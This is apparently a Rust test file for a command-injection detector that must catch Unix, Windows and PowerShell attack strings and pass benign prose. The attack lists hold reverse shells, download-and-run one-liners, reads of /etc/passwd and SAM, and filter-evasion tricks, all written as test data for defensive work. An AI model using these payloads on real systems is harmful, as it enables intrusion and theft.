use super::*;
use alloc::vec::Vec;

fn missed<'t>(attacks: &[&'t str], test: fn(&[u8]) -> bool) -> Vec<&'t str> {
    attacks.iter().filter(|text| !test(text.as_bytes())).copied().collect()
}
const NONE: Vec<&str> = Vec::new();

#[test]
fn commands_are_found_where_a_unix_shell_looks_for_them() {
    let attacks = [
        ";id",
        "; id",
        ";for i in 1;do curl evil.example/x;done",
        ";if id;then id;fi",
        "|id",
        "a;cat /etc/passwd",
        "127.0.0.1; cat /etc/passwd",
        "127.0.0.1 && whoami",
        "127.0.0.1\ncat /etc/passwd",
        "x || wget http://e.com/x",
        "`id`",
        "$(id)",
        "$(cat /etc/passwd)",
        "a`whoami`b",
        "cat /etc/passwd",
        "ls -la",
        "wget http://e.com/x.sh",
        "curl http://e.com | sh",
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "/bin/cat /etc/passwd",
        ";/bin/ls",
        ";c'a't /etc/passwd",
        ";c\\at /etc/passwd",
        ";cat$IFS/etc/passwd",
        ";cat${IFS}/etc/passwd",
        ";who$@ami",
        "; w'h'o'am'i",
        "{cat,/etc/passwd}",
        "/???/c?t /etc/passwd",
        "() { :;}; echo vulnerable",
        "${PATH:0:1}",
        "<(id)",
        ";sudo id",
        ";X=1 id",
        "alias x=ls",
        "!-1",
        "python3 -c 'import os'",
        "| uname -a",
        "& ping -c 1 127.0.0.1",
        ";ping 127.0.0.1",
        "perl -e 'print 1'",
        "echo$IFS$9hello",
        ";sleep 5",
        "php -r 'phpinfo();'",
    ];
    assert_eq!(missed(&attacks, is_unix), NONE);
}

#[test]
fn commands_are_found_where_windows_looks_for_them() {
    let attacks = [
        "&dir",
        "& dir c:\\",
        "|type c:\\boot.ini",
        "127.0.0.1 & ipconfig /all",
        "; net user",
        "cmd /c dir",
        "cmd.exe /c whoami",
        "c:\\windows\\system32\\cmd.exe",
        "n^et us^er",
        "&& tasklist",
        "for /f %i in ('dir') do echo %i",
        "if not exist c:\\x echo 1",
        "certutil -urlcache -f http://x y",
        "| whoami",
    ];
    assert_eq!(missed(&attacks, is_windows), NONE);
    let attacks = [
        "Get-Process",
        "Invoke-Expression x",
        "powershell.exe -enc AAAA",
        "Set-ExecutionPolicy Bypass",
        "iex (New-Object Net.WebClient).DownloadString('http://x')",
        "Get-ChildItem -Recurse",
    ];
    assert_eq!(missed(&attacks, is_powershell), NONE);
}

#[test]
fn prose_tables_and_code_run_nothing() {
    let benign = [
        "I like dogs; cats are fine too",
        "Find a date, then make time to sort it",
        "R&D and Q&A",
        ".and_then(|host| host.strip_suffix(']'))",
        "for (a, b) in f(&cc, &[1])",
        "Git v2.38.4 Release Notes",
        "git 2.38 is out",
        "if (st->wtimer == NULL)",
        "Get the `label` field of this object.",
        "/// * `path` does not exist.",
        "AT&T",
        "cats & dogs",
        "| id | name |\n|----|------|\n| 1 | find |",
        "Use `ls -la` to list the files in a directory",
        "Run `npm install && node server.js` to start the development server",
        "a; b; c",
        "find the time to sort the mail",
        "make a note",
        "date of birth",
        "top 10 songs",
        "ping me later",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0 Safari/537.36",
        "$('#id').hide()",
        "$(document).ready(function () { x(); })",
        "Hello ${name}, welcome",
        "It costs $(5)",
        "query { user(id: 1) { name, mail } }",
        "Steps to reproduce:\nls -la\ncat the file",
        "text/html; charset=utf-8",
        "name=value; Path=/; HttpOnly",
        "who is it?",
        "function a() { return 1; }",
        "const f = () => { go(); }",
        "The file is at /var/log/app.log, see there",
        "a|b|c",
        "yes | no | more",
        "time; date; place",
        "more or less",
        "head & tail",
        "price > 5 && price < 10",
        "set-list and start-up and out-of-date",
        "a well-known use-case",
        "sort by date; top first",
        "gzip, deflate, br",
        "en-US,en;q=0.5",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "node",
        "python",
        "git",
        "bash scripting",
        "install curl",
        "if you are at home, call me",
        "for example 5% in (total)",
        "type here",
        "net income",
        "https://example.com/a?b=c&type=d&id=5",
    ];
    for (name, test) in [
        ("unix", is_unix as fn(&[u8]) -> bool),
        ("windows", is_windows),
        ("powershell", is_powershell),
    ] {
        let stopped: Vec<&&str> = benign.iter().filter(|text| test(text.as_bytes())).collect();
        assert_eq!(stopped, Vec::<&&str>::new(), "{name}");
    }
}

#[test]
fn lines_of_traces_tags_and_comparisons_run_nothing() {
    let attacks = [
        "1;at now",
        ";at -f /tmp/j now",
        "1;at now + 1 minute",
        "sort </srv/keys.txt",
        "tac < /var/log/app.log",
        ";cat<flag",
        "python <script.py",
        "; cat < x",
        "| tail < x",
        "; test < x; id",
    ];
    assert_eq!(missed(&attacks, is_unix), Vec::<&str>::new());
    assert_eq!(missed(&["&at \\\\host 5:00 x"], is_windows), Vec::<&str>::new());
    let benign = [
        "\tat io.shop.Cart.total(Cart.kt:21)",
        "Stack:\n\tat io.shop.Cart.total(Cart.kt)\n\tat a.b.C.<init>(C.java:1)",
        "at https://status.example.com since noon",
        "Find <tr> without a body",
        "Note\nCut <aside class=\"wide\">.",
        "Type <Tab>",
        "time < 30 ms",
        "test <7",
        "top >= 3 rows",
        "more < less",
        "dogs; cat < lion",
        "; sort < 5",
        "View >> Sort >> By name",
        "git checkout <branch>",
        "export * from './totals';",
        "git branch -u origin/main main",
    ];
    for test in [is_unix as fn(&[u8]) -> bool, is_windows] {
        assert_eq!(missed(&benign, test), benign);
    }
}

#[test]
fn a_name_that_is_no_word_needs_no_more_than_a_word_behind_it() {
    let attacks = [
        "; ps aux",
        "127.0.0.1& kill -9 1",
        "1; ip addr",
        "1 ; systemctl status",
        ";'s'cp a b:",
        "; /bin/mv a b",
        "1; yum install x",
        "1| sleep 7 2>&1",
        "find / -name flag",
        ";stat /etc/passwd",
        "curl x for https://a.example",
        "python -c x for y",
        "git clone https://a.example for",
        "python x for https://a.example;id",
    ];
    assert_eq!(missed(&attacks, is_unix), NONE);
    let benign = [
        "hello; time he came",
        "5; more than that",
        "a hero; more than",
        "Dr. A; MD in 3 years",
        "red; sort of blue",
        "3 | at noon",
        "size 5; fits well",
        "call me; last week",
        "tools: pip, npm; install them",
        "Python client for https://a.example",
        "python API Client for (https://a.example/b)",
        "Python3 wrapper for C (https://a.example)",
    ];
    assert_eq!(missed(&benign, |text| !is_unix(text)), NONE);
}

#[test]
fn what_windows_and_powershell_put_together_is_found() {
    let attacks = [
        "& \"c:\\program files\\a\\b.exe\"",
        "%PROGRAMFILES:~10,-5%",
        "ping%CommonProgramFiles:~10,-18%127.0.0.1",
        "cscript //e:jscript x.txt",
    ];
    assert_eq!(missed(&attacks, is_windows), NONE);
    let attacks = [
        "$env:PATH",
        "gp HKLM:\\SAM",
        "Expand-Archive a.zip",
        "gci env:",
        "[Convert]::FromBase64String('AAAA')",
        "& ('i'+'ex') 'whoami'",
        "$ExecutionContext.InvokeCommand",
    ];
    assert_eq!(missed(&attacks, is_powershell), NONE);
    let benign = [
        "convert-string of a text",
        "10:~20 %",
        "a & (b + c)",
        "[u8]::len(&x)",
        "environment: production",
        "Tom & ('Jerry')",
    ];
    assert_eq!(missed(&benign, |text| !is_windows(text) && !is_powershell(text)), NONE);
}

#[test]
fn a_program_is_told_by_its_folder_and_by_a_variable_that_names_it() {
    let attacks = [
        "/bin/zq",
        "/usr/bin/python",
        "/opt/nc",
        "/usr/sbin/some-tool",
        "usr/bin/whoami",
        "bin/mkfifo",
        "bin/nc 10.0.0.1 -e sh",
        "$SHELL -c \"id\"",
        "x;$BASH -c id",
        "curl x.example|$SHELL",
        "$PAGER /etc/hosts",
        ">/tmp/x",
        ">>/var/www/a.php",
        "a=1;b=ls;$b",
        "__import__('os').popen('ls')",
        "os.system('ls -l')",
    ];
    assert_eq!(missed(&attacks, is_unix), NONE);
    let benign = [
        "/bin/view/Main",
        "/bin/42",
        "/learn/python",
        "/usr/share/doc/git",
        "/bin/x.cgi",
        "/usr/local/bin/our-app",
        "bin/rails",
        "bin/docker",
        "bin/visudo-notes.txt",
        "the $SHELL variable",
        "$SHELL",
        "$EDITOR is what git asks",
        "$PRICE -20%",
        ">/tmp",
        "> /tmp/x is full",
        "></a>",
        "perl implementation of one / two",
        "call os.system() with the command's name",
        "import subprocess",
    ];
    assert_eq!(missed(&benign, |text| !is_unix(text)), NONE);
}

#[test]
fn a_segment_of_a_path_runs_what_no_title_has() {
    let attacks = ["~-1", ";ifconfig", "ksh -c id", "time sh -c id", "nmap /x", "'nc -e /bin/sh"];
    assert_eq!(missed(&attacks, is_unix_segment), NONE);
    let attacks = [
        "if exist a.port echo yes",
        "for %i in (a) do b",
        "a.jpg&bcdboot /r b",
        "a.jpg&bcdboot < b",
        "x & for %i in (a) do b",
        "; regsvr32 /s x",
        ";iwr http://x.example/a.ps1",
        "%ProgramFiles:~10,1%",
    ];
    assert_eq!(missed(&attacks, is_windows_segment), NONE);
    let attacks =
        ["Invoke-WebRequest http://x.example/a", "Get-Item -Path c", "iex (New-Object x)"];
    assert_eq!(missed(&attacks, is_powershell_segment), NONE);
    let benign = [
        "ls foo.pdf",
        "git -a tutorial.pdf",
        "Copy of report.txt",
        "Move & Copy 2.pdf",
        "Gross & Net income.pdf",
        "Tom & Start here.txt",
        "Time; Date; Place.doc",
        "chef-des-hauses",
        "R&D",
        "~john",
        "Get-ChildItem",
        "How Get-Process works.md",
        "if you can.mp3",
        "What if - a story.pdf",
        "tcpdump tutorial.pdf",
    ];
    let tests: [fn(&[u8]) -> bool; 3] =
        [is_unix_segment, is_windows_segment, is_powershell_segment];
    for test in tests {
        let stopped: Vec<&&str> = benign.iter().filter(|text| test(text.as_bytes())).collect();
        assert_eq!(stopped, Vec::<&&str>::new());
    }
}

#[test]
fn fences_of_markdown_part_no_commands_in_a_report() {
    let report =
        b"```sh\nnpm install our-lib\n```\n\nThen nothing happens, and the log stays empty.";
    assert!(!is_unix(report) && !is_windows(report));
    let session = b"```\r\nPython 3.12.1\r\n```\r\nThis is what I run it with, on two machines.";
    assert!(!is_unix(session));
    // Alone they are a shell's own backticks.
    assert!(is_unix(b"```\nid\n```") && is_unix(b"```sh\ncurl x.example\n```"));
    assert!(is_unix(b"x ```id``` "));
}

#[test]
fn what_asks_or_prints_in_powershell_is_told_from_what_reads_or_runs() {
    let benign = ["Get-Item $x", "(Get-Item \"a.txt\").Length", "Write-Host \"Downloading\""];
    assert_eq!(missed(&benign, |text| !is_powershell(text)), NONE);
    let attacks = [
        "Get-Item -Path c",
        "Get-Item x | Remove-Item",
        "Write-Host (Get-Content x)",
        "Get-ItemProperty x",
        "Write-Output $env:PATH",
    ];
    assert_eq!(missed(&attacks, is_powershell), NONE);
}

mod records;
